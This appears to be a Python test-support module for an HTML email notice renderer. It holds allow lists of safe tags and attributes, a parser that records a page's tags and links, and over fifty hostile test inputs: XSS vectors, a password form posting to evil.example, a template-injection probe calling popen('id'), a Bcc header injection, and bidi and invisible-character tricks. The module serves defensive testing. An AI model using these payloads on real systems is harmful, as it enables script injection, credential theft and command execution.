"""Words that want to be more than words, and a parser that finds out whether they became it."""

from __future__ import annotations

import unicodedata
from html.parser import HTMLParser

SAFE = {"html", "head", "meta", "title", "style", "body", "div", "h2", "table", "tr", "th", "td", "strong", "small"}
SAFE |= {"span", "br", "a", "p", "img"}
"""The elements that a notice is made of."""

ATTRIBUTES = {"lang", "charset", "name", "content", "style", "href", "class", "align", "valign", "width", "colspan"}
ATTRIBUTES |= {"cellpadding", "cellspacing", "src", "alt"}

HOSTILE = [
    "<img src=x onerror=alert(1)>",
    "<script>alert(1)</script>",
    "</td></table><iframe src=//evil.example>",
    '"><svg/onload=alert(1)>',
    "' style='position:fixed' onmouseover='alert(1)",
    "{{ 7 * 7 }}{% for x in y %}",
    "${7*7} #{7*7} <%= 7*7 %> {0.__class__}",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<!--",
    "<![CDATA[<b>]]>",
    "x\r\nBcc: victim@example.org\r\n\r\nhello",
    "\u202egnp.exe\u2066\u200f",
    "a\u200bb\ufeffc\u00add",
    "nul\x00bell\x07esc\x1b[2Jcsi\x9b",
    "x" * 300,
    "\ud800 half a character",
    "@everyone <!channel> <@U123> @here",
    "<a href='javascript:alert(1)'>click</a>",
    "<style>*{background:url(//evil.example/x)}</style>",
    "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<form action=//evil.example><input name=password>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<object data=//evil.example>",
    "<embed src=//evil.example>",
    "<video src=//evil.example onerror=alert(1)>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<math><mtext></mtext><script>alert(1)</script></math>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<x onclick=alert(1) style=animation-name:x>",
    "&#x3C;script&#x3E;alert(1)&#60;/script&#62;",
    "&#106;avascript:alert(1)",
    "\"' autofocus onfocus=alert(1) x='",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "![pixel](https://evil.example/p.png)[click](javascript:alert(1))",
    "--><img src=//evil.example/x>",
    "`<img src=cid:evil>`",
]
"""More than forty, for each place that shows a word of a catalogue's."""

TEMPLATES = [
    "{{ 7 * 7 }}",
    "{{ config }}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{{ self._TemplateReference__context }}",
    "{{ lipsum.__globals__['os'].popen('id').read() }}",
    "{% for x in range(9) %}x{% endfor %}",
    "{% raw %}x{% endraw %}",
    "{# a comment #}",
    "{{ 'A' * 10**9 }}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "{0.__class__.__init__.__globals__}",
    "%(password)s {password} %s",
    "*{7*7} @{7*7} [[7*7]]",
]
"""What a template engine, or a careless format, would take for code."""


class Page(HTMLParser):
    """A page as a mail program reads it."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.elements: list[tuple[str, dict[str, str | None]]] = []
        self.words = ""
        self.comments = 0
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        self.words += data.replace("\u00a0", " ")

    def handle_comment(self, data: str) -> None:
        self.comments += 1

    @property
    def tags(self) -> list[str]:
        return [tag for tag, _ in self.elements]

    def links(self) -> list[str | None]:
        return [attributes["href"] for tag, attributes in self.elements if tag == "a"]

    def pictures(self) -> list[dict[str, str | None]]:
        return [attributes for tag, attributes in self.elements if tag == "img"]


def is_clean(text: str) -> bool:
    """Whether a text has no control, direction or invisible character."""
    return all(unicodedata.category(c) not in ("Cc", "Cf", "Cs", "Zl", "Zp") for c in text)
